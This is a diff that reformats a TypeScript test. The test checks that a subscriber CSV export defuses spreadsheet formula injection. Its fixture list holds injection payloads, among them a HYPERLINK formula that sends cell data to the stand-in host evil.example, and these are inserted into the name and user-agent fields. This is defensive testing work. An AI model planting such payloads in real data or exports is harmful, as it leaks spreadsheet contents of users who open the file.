@@ -7,7 +7,15 @@ import { runCli } from '../support/run-cli.ts';
 import { tempProject, type TempProject } from '../support/temp-project.ts';
 
 const NOW = new Date('2026-03-02T10:00:00Z');
-const HOSTILE = ['=1+1', '=HYPERLINK("https://evil.example/?d="&A1,"click")', '+1', '-2+3', '@SUM(A1:A2)', '\tx', '\rx'];
+const HOSTILE = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+  '+1',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\tx',
+  '\rx',
+];
 
 describe('subscribers export --format csv is safe to open in a spreadsheet', () => {
   let temp: TempProject;
@@ -18,9 +26,23 @@ describe('subscribers export --format csv is safe to open in a spreadsheet', () 
     const store = createSubscriberStore(db);
     for (const [i, hostile] of HOSTILE.entries()) {
       await store.insert({
-        public_id: randomBytes(16).toString('base64url'), email: `r${i}@example.org`, email_normalized: `r${i}@example.org`, name: hostile, status: 'active',
-        timezone: null, send_time: null, consent_at: NOW.getTime(), consent_ip: '203.0.113.9', consent_user_agent: hostile, consent_source: 'web',
-        created_at: NOW.getTime(), confirmed_at: NOW.getTime(), status_changed_at: NOW.getTime(), next_send_at: null, last_sent_at: null, confirm_sent_at: null,
+        public_id: randomBytes(16).toString('base64url'),
+        email: `r${i}@example.org`,
+        email_normalized: `r${i}@example.org`,
+        name: hostile,
+        status: 'active',
+        timezone: null,
+        send_time: null,
+        consent_at: NOW.getTime(),
+        consent_ip: '203.0.113.9',
+        consent_user_agent: hostile,
+        consent_source: 'web',
+        created_at: NOW.getTime(),
+        confirmed_at: NOW.getTime(),
+        status_changed_at: NOW.getTime(),
+        next_send_at: null,
+        last_sent_at: null,
+        confirm_sent_at: null,
       });
     }
     await db.destroy();
@@ -34,7 +56,11 @@ describe('subscribers export --format csv is safe to open in a spreadsheet', () 
     expect(rows.map((r) => r.name)).toEqual(HOSTILE.map((h) => `'${h}`));
     expect(rows.map((r) => r.consent_user_agent)).toEqual(HOSTILE.map((h) => `'${h}`));
     // Harmless cells are untouched: addresses, dates, the IP.
-    expect(rows[0]).toMatchObject({ email: 'r0@example.org', consent_ip: '203.0.113.9', created_at: NOW.toISOString() });
+    expect(rows[0]).toMatchObject({
+      email: 'r0@example.org',
+      consent_ip: '203.0.113.9',
+      created_at: NOW.toISOString(),
+    });
 
     const json = await runCli(['subscribers', 'export', '--format', 'json'], temp.dir, {}, NOW);
     const parsed = JSON.parse(json.stdout) as { name: string }[];
@@ -45,7 +71,7 @@ describe('subscribers export --format csv is safe to open in a spreadsheet', () 
 
   it('says so in --help', async () => {
     const help = await runCli(['subscribers', 'export', '--help'], temp.dir, {}, NOW);
-    expect(help.stdout).toContain("starts with = + - @, a tab or a carriage");
+    expect(help.stdout).toContain('starts with = + - @, a tab or a carriage');
     expect(help.stdout).toContain('OWASP');
   });
 });
